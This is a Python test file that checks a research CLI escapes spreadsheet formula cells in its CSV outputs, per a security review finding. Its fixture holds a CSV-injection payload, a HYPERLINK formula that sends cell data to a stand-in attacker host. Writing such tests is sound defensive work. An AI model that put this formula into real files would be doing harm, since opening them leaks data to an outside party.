"""Security review finding 15: every file a researcher may open in a spreadsheet is written
with formula cells neutralised, by one shared function."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from analysis.cli import main
from analysis.spreadsheet import clean_text, neutralise, write_csv

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_would_run_as_a_formula_is_shown_as_text(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None
    assert neutralise("Police, please listen") == "Police, please listen"


def test_control_characters_are_removed_but_tabs_and_newlines_kept() -> None:
    assert clean_text("nul\x00byte\x07 bell\x1b\x7f\x85") == "nulbyte bell"
    assert clean_text("line one\nline two\tand\r\nmore") == "line one\nline two\tand\r\nmore"


def test_write_csv_neutralises_cells_column_names_and_index(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=theme": [FORMULA, "fine"]}, index=["+index", "ok"])
    write_csv(frame, tmp_path / "out.csv")
    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert rows[0] == ["", "'=theme"]
    assert rows[1] == ["'+index", "'" + FORMULA]
    assert rows[2] == ["ok", "fine"]


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]


def _assert_no_formula(path: Path) -> None:
    cells = _cells(path)
    assert cells, path
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], (path, cells)


def test_redacted_and_coded_csv_files_of_the_cli_hold_no_formula_cells(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pd.DataFrame({"ID": ["=1+1", "2"], "TEXT": [FORMULA, "+police never listened"]}).to_csv(
        tmp_path / "R.csv", index=False
    )
    (tmp_path / "C.yaml").write_text(
        "name: t\nthemes:\n  - name: '=Police'\n    keywords: [police]\n", encoding="utf-8"
    )
    argv = ["redact", "--input", str(tmp_path / "R.csv"), "--columns", "TEXT"]
    assert main([*argv, "--out", str(tmp_path / "red.csv")]) == 0
    _assert_no_formula(tmp_path / "red.csv")
    argv = [
        "code", "--input", str(tmp_path / "R.csv"), "--id-column", "ID", "--text-column",
        "TEXT", "--codebook", str(tmp_path / "C.yaml"), "--out", str(tmp_path / "coded.csv"),
    ]  # fmt: skip
    assert main(argv) == 0
    _assert_no_formula(tmp_path / "coded.csv")
    assert "'=Police" in _cells(tmp_path / "coded.csv")
    capsys.readouterr()


def test_agreement_tables_of_the_cli_hold_no_formula_cells(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pd.DataFrame(
        {"ID": ["=1", "=1", "@2", "@2"], "coder": ["a", "b", "a", "b"], "=cmd": [1, 1, 0, 1]}
    ).to_csv(tmp_path / "K.csv", index=False)
    argv = [
        "agreement", "--input", str(tmp_path / "K.csv"), "--id-column", "ID",
        "--coder-column", "coder", "--out-dir", str(tmp_path / "ag"),
    ]  # fmt: skip
    assert main(argv) == 0
    for name in ("codings.csv", "kappa-by-theme.csv", "disagreements.csv"):
        _assert_no_formula(tmp_path / "ag" / name)
    capsys.readouterr()
